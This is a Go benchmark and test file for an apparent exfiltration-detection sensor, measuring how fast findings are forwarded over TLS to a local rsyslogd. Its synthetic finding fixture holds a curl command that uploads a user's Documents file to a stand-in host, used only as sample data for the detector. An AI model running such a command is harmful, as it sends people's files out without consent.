package output

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"syscall"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"exfilwatch/attribution"
	"exfilwatch/sensor/detect"
	"exfilwatch/sensor/events"
	"exfilwatch/sensor/output/syslog"
)

// BenchmarkForwarderTLSToRsyslog is the real delivery path of `run`:
// Forwarder.Finding (RFC 5424 formatting, spool append) from one goroutine,
// as the detector calls it, then the forwarder's sender over TLS to a real
// rsyslogd on loopback. The clock stops when rsyslog has written every one
// of the b.N findings to its file. Reported: findings/s end to end, the p50
// and p99 time from Finding() to the line in rsyslog's file, and the mean
// time Finding() blocks the caller. Run with a fixed count, e.g.
// -bench ForwarderTLSToRsyslog -benchtime 20000x.
func BenchmarkForwarderTLSToRsyslog(b *testing.B) {
	p := benchPKI(b)
	port := benchFreePort(b)
	r := benchRsyslog(b, p, port)
	url := fmt.Sprintf("tls://127.0.0.1:%d", port)
	topts := syslog.TransportOptions{CAFile: p.caFile}
	fm := &syslog.Formatter{}
	fw, err := NewForwarder(ForwarderOptions{
		Name: url, Dir: SpoolDir(b.TempDir(), url),
		Dial:   func(ctx context.Context) (Sender, error) { return syslog.Dial(ctx, url, topts) },
		Format: fm.Message,
		Log:    zerolog.Nop(),
	})
	if err != nil {
		b.Fatal(err)
	}
	defer fw.Close()

	templates := make([]*detect.Finding, 16)
	var size int
	for i := range templates {
		templates[i] = benchFinding(i)
		m, err := fm.Message(templates[i])
		if err != nil {
			b.Fatal(err)
		}
		size += len(m)
	}
	sent := make([]time.Time, b.N)
	tail := newRsyslogTail(r.raw, b.N)
	tailDone := make(chan error, 1)
	b.ResetTimer()
	start := time.Now()
	go func() { tailDone <- tail.run(start.Add(120 * time.Second)) }()
	var blocked time.Duration
	for i := 0; i < b.N; i++ {
		f := *templates[i%len(templates)]
		f.ID = benchID(i)
		sent[i] = time.Now()
		fw.Finding(&f)
		blocked += time.Since(sent[i])
	}
	if err := <-tailDone; err != nil {
		b.Fatalf("%v; forwarder %+v; rsyslogd said: %s", err, fw.Stats(), r.stderr)
	}
	el := time.Since(start)
	b.StopTimer()

	st := fw.Stats()
	if st.Spooled != uint64(b.N) || st.Dropped != 0 || st.SpoolErrors != 0 || st.FormatErrors != 0 {
		b.Fatalf("forwarder lost findings: %+v", st)
	}
	lat := make([]time.Duration, b.N)
	for i := range lat {
		lat[i] = tail.seen[i].Sub(sent[i])
	}
	slices.Sort(lat)
	b.ReportMetric(float64(b.N)/el.Seconds(), "findings/s")
	b.ReportMetric(float64(lat[b.N/2].Microseconds())/1000, "p50-ms")
	b.ReportMetric(float64(lat[b.N*99/100].Microseconds())/1000, "p99-ms")
	b.ReportMetric(float64(blocked.Microseconds())/float64(b.N), "µs-Finding/op")
	b.ReportMetric(float64(size/len(templates)), "msg-bytes")
	b.ReportMetric(float64(tail.dups), "dups")
}

// benchID is a finding id the tail can map back to its index.
func benchID(i int) string { return fmt.Sprintf("%024x", i) }

// rsyslogTail follows rsyslog's raw file and notes when each finding's
// line first appeared (polling every 0.5 ms, which bounds the error of the
// latency figures).
type rsyslogTail struct {
	path string
	seen []time.Time
	left int
	dups int
}

func newRsyslogTail(path string, n int) *rsyslogTail {
	return &rsyslogTail{path: path, seen: make([]time.Time, n), left: n}
}

func (t *rsyslogTail) run(deadline time.Time) error {
	f, err := os.Open(t.path)
	if err != nil {
		return err
	}
	defer f.Close()
	var pending []byte
	buf := make([]byte, 1<<20)
	key := []byte(` id="`)
	for t.left > 0 {
		n, err := f.Read(buf)
		now := time.Now()
		if n > 0 {
			pending = append(pending, buf[:n]...)
			for {
				nl := bytes.IndexByte(pending, '\n')
				if nl < 0 {
					break
				}
				line := pending[:nl]
				if k := bytes.Index(line, key); k >= 0 && len(line) >= k+len(key)+24 {
					id, perr := strconv.ParseUint(string(line[k+len(key):k+len(key)+24]), 16, 64)
					if perr == nil && id < uint64(len(t.seen)) {
						if t.seen[id].IsZero() {
							t.seen[id] = now
							t.left--
						} else {
							t.dups++
						}
					}
				}
				pending = pending[nl+1:]
			}
			continue
		}
		if err != nil && err != io.EOF {
			return err
		}
		if now.After(deadline) {
			return fmt.Errorf("rsyslog wrote %d of %d findings", len(t.seen)-t.left, len(t.seen))
		}
		time.Sleep(500 * time.Microsecond)
	}
	return nil
}

// benchFinding is a realistic AN0424 finding (an HTTP upload by curl after
// reading documents) whose RFC 5424 message is about 4 KB, like the
// syslog package's test findings.
func benchFinding(i int) *detect.Finding {
	exe := "/usr/bin/curl"
	if i%3 == 1 {
		exe = `/tmp/.x/we"ird]\dïr/cürl`
	}
	created := time.Date(2025, 3, 4, 5, 6, 7, 123456789, time.UTC).Add(time.Duration(i) * time.Second)
	f := &detect.Finding{
		ID: benchID(i), RuleID: "AN0424", GOOS: "linux", Created: created,
		Severity: []string{"low", "medium", "high", "critical"}[i%4], Score: i % 8,
		Reasons: []detect.Reason{{Code: "sensitive_read", Description: "curl read ~/Documents/report.pdf"},
			{Code: "network_tool", Description: "curl is a network tool", Weight: 1}},
		Process: &attribution.Process{PID: int32(4000 + i), PPID: 3999, Name: "curl", Executable: exe,
			Args: []string{"curl", "-F", "f=@report.pdf", "http://198.18.0.2:8080/upload"}, UID: 1000, User: "alice"},
		Attribution: "socket_table",
	}
	for j := range 4 {
		f.Files = append(f.Files, detect.File{Path: fmt.Sprintf("/home/alice/Documents/ünïcode-report-%04d.pdf", j), Class: "documents",
			Time: created.Add(-time.Minute), Access: "read", Size: 12345, Hashed: true, PID: int32(4000 + i), ProcessName: "curl",
			Executable: exe, Relation: "self", Source: "fanotify"})
	}
	u := &f.Upload
	u.Protocol = "http"
	u.Conn = events.Conn{FlowID: uint64(i + 1), Client: netip.MustParseAddrPort("198.18.0.1:40000"),
		Server: netip.MustParseAddrPort("198.18.0.2:8080"), Transport: "tcp", Direction: "outbound"}
	u.Start, u.End = created.Add(-2*time.Second), created.Add(-time.Second)
	u.Bytes = int64(100000 + i)
	u.FlowIDs = []uint64{uint64(i + 1)}
	u.Method, u.Target, u.Host, u.UserAgent, u.ContentType = "POST", "/upload", "198.18.0.2:8080", "curl/7.88.1", "multipart/form-data; boundary=x"
	return f
}

// TestBenchFindingSize keeps the benchmark's findings at the size the
// issue asks for (~4 KB of JSON).
func TestBenchFindingSize(t *testing.T) {
	b, err := json.Marshal(benchFinding(1))
	if err != nil {
		t.Fatal(err)
	}
	if len(b) < 3500 || len(b) > 5000 {
		t.Fatalf("benchmark finding JSON is %d bytes, want about 4 KB", len(b))
	}
}

// benchRsyslogd is an rsyslogd in the foreground with a TLS listener (gtls
// driver, anonymous clients) and one raw line per message in raw.
type benchRsyslogd struct {
	raw    string
	stderr *bytes.Buffer
}

// benchRsyslog starts rsyslogd the way sensor/output/syslog's tests do and
// returns once its TLS input takes connections.
func benchRsyslog(b *testing.B, p *benchPKIFiles, port int) *benchRsyslogd {
	bin, err := exec.LookPath("rsyslogd")
	if err != nil {
		bin = "/usr/sbin/rsyslogd"
		if _, err2 := os.Stat(bin); err2 != nil {
			b.Fatalf("rsyslogd not found (%v): apt-get install rsyslog rsyslog-gnutls (make deps does)", err)
		}
	}
	dir := b.TempDir()
	r := &benchRsyslogd{raw: filepath.Join(dir, "raw.log"), stderr: new(bytes.Buffer)}
	conf := fmt.Sprintf(`
global(workDirectory=%q maxMessageSize="256k" net.enableDNS="off"
       defaultNetstreamDriver="gtls" defaultNetstreamDriverCAFile=%q
       defaultNetstreamDriverCertFile=%q defaultNetstreamDriverKeyFile=%q)
module(load="imtcp" streamDriver.name="gtls" streamDriver.mode="1" streamDriver.authMode="anon")
input(type="imtcp" address="127.0.0.1" port="%d")
template(name="raw" type="string" string="%%rawmsg%%\n")
action(type="omfile" file=%q template="raw" flushOnTXEnd="on" asyncWriting="off")
`, dir, p.caFile, p.serverCert, p.serverKey, port, r.raw)
	confPath := filepath.Join(dir, "rsyslog.conf")
	if err := os.WriteFile(confPath, []byte(conf), 0o600); err != nil {
		b.Fatal(err)
	}
	cmd := exec.Command(bin, "-n", "-f", confPath, "-i", filepath.Join(dir, "rsyslogd.pid"))
	cmd.Stdout, cmd.Stderr = r.stderr, r.stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := cmd.Start(); err != nil {
		b.Fatalf("start rsyslogd: %v", err)
	}
	exited := make(chan struct{})
	go func() { cmd.Wait(); close(exited) }()
	b.Cleanup(func() {
		cmd.Process.Signal(syscall.SIGTERM)
		select {
		case <-exited:
		case <-time.After(5 * time.Second):
			cmd.Process.Kill()
			<-exited
		}
	})
	// Ready when a TLS handshake succeeds and a probe is written out.
	deadline := time.Now().Add(15 * time.Second)
	for {
		select {
		case <-exited:
			b.Fatalf("rsyslogd exited: %s\nconfiguration:\n%s", r.stderr, conf)
		default:
		}
		tr, err := syslog.Dial(context.Background(), fmt.Sprintf("tls://127.0.0.1:%d", port), syslog.TransportOptions{CAFile: p.caFile})
		if err == nil {
			err = tr.Send([]byte("<13>1 - - probe - PROBE - ready"))
			tr.Close()
			if err == nil {
				for time.Now().Before(deadline) {
					if rb, _ := os.ReadFile(r.raw); bytes.Contains(rb, []byte("PROBE")) {
						return r
					}
					time.Sleep(20 * time.Millisecond)
				}
			}
		}
		if time.Now().After(deadline) {
			b.Fatalf("rsyslogd not ready within 15s (%v): %s", err, r.stderr)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func benchFreePort(b *testing.B) int {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

// benchPKIFiles: a CA and a server certificate for 127.0.0.1, made at
// run time.
type benchPKIFiles struct{ caFile, serverCert, serverKey string }

func benchPKI(b *testing.B) *benchPKIFiles {
	dir := b.TempDir()
	p := &benchPKIFiles{caFile: filepath.Join(dir, "ca.pem"), serverCert: filepath.Join(dir, "server.pem"), serverKey: filepath.Join(dir, "server-key.pem")}
	caKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		b.Fatal(err)
	}
	now := time.Now()
	caTmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "exfilwatch bench CA"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature}
	caDER, err := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &caKey.PublicKey, caKey)
	if err != nil {
		b.Fatal(err)
	}
	ca, err := x509.ParseCertificate(caDER)
	if err != nil {
		b.Fatal(err)
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		b.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "syslog.test"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour), DNSNames: []string{"syslog.test"},
		IPAddresses: []net.IP{net.ParseIP("127.0.0.1")}, KeyUsage: x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, ca, &key.PublicKey, caKey)
	if err != nil {
		b.Fatal(err)
	}
	kder, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		b.Fatal(err)
	}
	for _, w := range []struct {
		path, typ string
		der       []byte
	}{{p.caFile, "CERTIFICATE", caDER}, {p.serverCert, "CERTIFICATE", der}, {p.serverKey, "EC PRIVATE KEY", kder}} {
		if err := os.WriteFile(w.path, pem.EncodeToMemory(&pem.Block{Type: w.typ, Bytes: w.der}), 0o600); err != nil {
			b.Fatal(err)
		}
	}
	return p
}
